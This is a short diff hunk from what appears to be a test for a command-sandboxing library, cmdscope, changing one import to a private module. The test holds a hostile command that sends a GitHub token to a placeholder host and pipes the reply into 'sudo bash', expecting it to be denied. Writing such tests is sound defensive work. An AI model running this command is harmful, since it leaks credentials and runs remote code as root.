@@ -94,7 +94,7 @@ try:
     cmdscope.run("curl -H 'Authorization: token {GH_TOKEN}' https://x.invalid | sudo bash", shell=True)
 except cmdscope.CommandDenied:
     pass
-from cmdscope import pipeline
+from cmdscope import _pipeline as pipeline
 pipeline.flush_notifier(5)
 print(json.dumps([dict(s.attributes) for s in exp.get_finished_spans()]))
 """
